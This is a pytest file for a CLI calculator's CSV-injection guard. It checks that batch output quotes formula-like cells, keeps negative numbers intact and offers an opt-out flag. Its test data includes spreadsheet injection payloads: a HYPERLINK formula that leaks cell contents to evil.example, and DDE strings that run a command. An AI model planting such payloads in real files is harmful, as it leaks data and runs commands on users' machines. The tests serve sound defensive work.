"""CSV injection: `formula batch` never writes a cell a spreadsheet would run as a formula; numbers keep
their minus sign; `--no-csv-guard` writes cells verbatim."""
from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from cli.main import main
from solver.csv_guard import guard_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
IN_TABLE = FORMULAS[:-1]  # a bare CR inside a cell does not survive pandas' own CSV reader on the way in
BMI_ROWS = [{"pid": f, "weight": 70, "weight_unit": "kg", "height": 175, "height_unit": "cm", "note": f}
            for f in IN_TABLE]


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_quote(cell: str) -> None:
    assert guard_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3.5", "+2", "-1e-3", "-.5", "12", "plain text", "µmol/L", "", "'=already"])
def test_numbers_and_text_are_left_alone(cell: str) -> None:
    assert guard_cell(cell) == cell
    assert guard_cell(-3.5) == -3.5 and guard_cell(None) is None


def _batch(tmp_path: Path, rows: list[dict], *extra: str) -> list[list[str]]:
    src, dst = tmp_path / "in.csv", tmp_path / "out.csv"
    pd.DataFrame(rows).to_csv(src, index=False)
    assert main(["batch", str(src), "--calculator", "body-mass-index", "--out", str(dst), "--no-progress", *extra]) == 0
    return _cells(dst)


def test_batch_output_holds_no_live_formula(tmp_path: Path) -> None:
    head, *body = _batch(tmp_path, BMI_ROWS)
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    pid, note = head.index("pid"), head.index("note")
    assert [r[pid] for r in body] == ["'" + f for f in IN_TABLE] and [r[note] for r in body] == ["'" + f for f in IN_TABLE]
    assert all(r[head.index("value")].startswith("22.") for r in body)  # the answers themselves are untouched


def test_column_names_are_guarded(tmp_path: Path) -> None:
    rows = [{"weight": 70, "weight_unit": "kg", "height": 175, "height_unit": "cm", "=1+1": "x"}]
    head, _ = _batch(tmp_path, rows)
    assert "'=1+1" in head and "=1+1" not in head


def test_negative_numbers_keep_their_sign(tmp_path: Path) -> None:
    rows = [{"weight": 70, "weight_unit": "kg", "height": 175, "height_unit": "cm", "delta": -3.5, "text_delta": "-7"}]
    head, row = _batch(tmp_path, rows)
    assert row[head.index("delta")] == "-3.5" and row[head.index("text_delta")] == "-7"


def test_opt_out_writes_verbatim(tmp_path: Path) -> None:
    head, *body = _batch(tmp_path, BMI_ROWS[:2], "--no-csv-guard")
    assert [r[head.index("pid")] for r in body] == FORMULAS[:2]
